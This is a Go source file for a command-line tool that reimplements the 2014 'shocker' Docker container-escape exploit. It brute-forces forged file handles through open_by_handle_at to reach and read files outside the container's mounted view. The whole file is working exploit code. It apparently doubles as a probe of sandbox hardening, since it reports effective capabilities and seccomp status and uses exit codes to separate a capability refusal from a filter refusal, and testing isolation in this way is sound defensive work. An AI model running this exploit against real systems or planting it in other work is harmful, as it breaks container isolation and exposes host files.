// Command shocker tries to leave its container's view of a file system
// with open_by_handle_at(2), as the "shocker" exploit did against Docker
// (2014): a process with CAP_DAC_READ_SEARCH can open any inode of a file
// system it has one file of, by a handle it makes up, whatever the bind
// mount it came through.
//
// Usage: shocker PATH RELPATH
//
// It first prints its CapEff and Seccomp lines of /proc/self/status, so a
// caller can tell a refusal by the capability check from one by a filter.
// Then it takes the handle of PATH (name_to_handle_at) to learn the file
// system's handle type and size, then tries the handles of the lowest inode
// numbers with generation 0 (FUSE's root is node 1; ext4's root is inode
// 2, which is what shocker itself brute-forced) and, in each directory it
// opens, RELPATH. It prints "read: CONTENT" and exits 0 when it read
// RELPATH; otherwise it prints the error of the last handle call and exits
// 1 when the calls were refused (EPERM), 2 on anything else.
package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"os"
	"strings"

	"golang.org/x/sys/unix"
)

// maxNode is how many inode numbers are tried.
const maxNode = 4096

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: shocker PATH RELPATH")
		os.Exit(2)
	}
	if b, err := os.ReadFile("/proc/self/status"); err == nil {
		for _, line := range strings.Split(string(b), "\n") {
			if strings.HasPrefix(line, "CapEff:") || strings.HasPrefix(line, "Seccomp:") {
				fmt.Println(line)
			}
		}
	}
	content, err := shock(os.Args[1], os.Args[2])
	if err != nil {
		fmt.Println(err)
		if errors.Is(err, unix.EPERM) {
			os.Exit(1)
		}
		os.Exit(2)
	}
	fmt.Printf("read: %s\n", content)
}

func shock(path, rel string) (string, error) {
	h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, path, 0)
	if err != nil {
		return "", fmt.Errorf("name_to_handle_at %s: %w", path, err)
	}
	fmt.Printf("handle of %s: type %#x, %d bytes\n", path, h.Type(), h.Size())
	mount, err := unix.Open(path, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return "", fmt.Errorf("open %s: %w", path, err)
	}
	defer unix.Close(mount)
	var last error
	for node := uint64(1); node <= maxNode; node++ {
		fd, err := unix.OpenByHandleAt(mount, unix.NewFileHandle(h.Type(), handleBytes(h, node)), unix.O_RDONLY|unix.O_DIRECTORY)
		if err != nil {
			last = fmt.Errorf("open_by_handle_at: %w", err)
			if errors.Is(err, unix.EPERM) {
				return "", last
			}
			continue
		}
		content, err := readAt(fd, rel)
		unix.Close(fd)
		if err == nil {
			fmt.Printf("node %d holds %s\n", node, rel)
			return content, nil
		}
	}
	if last == nil {
		last = fmt.Errorf("%s found under no inode up to %d", rel, maxNode)
	}
	return "", last
}

// handleBytes is h with its inode number replaced by node and a zero
// generation: FUSE's handles (FILEID_INO64_GEN) are the node id, high half
// first, then the generation; other file systems' (FILEID_INO32_GEN) the
// inode number, then the generation, in the host's byte order.
func handleBytes(h unix.FileHandle, node uint64) []byte {
	b := make([]byte, len(h.Bytes()))
	switch {
	case h.Type() == 0x81 && len(b) >= 12:
		binary.NativeEndian.PutUint32(b[0:], uint32(node>>32))
		binary.NativeEndian.PutUint32(b[4:], uint32(node))
	case len(b) >= 8:
		binary.NativeEndian.PutUint32(b[0:], uint32(node))
	}
	return b
}

// readAt reads rel below the directory dir.
func readAt(dir int, rel string) (string, error) {
	fd, err := unix.Openat(dir, rel, unix.O_RDONLY, 0)
	if err != nil {
		return "", err
	}
	f := os.NewFile(uintptr(fd), rel)
	defer f.Close()
	b, err := io.ReadAll(f)
	return string(b), err
}
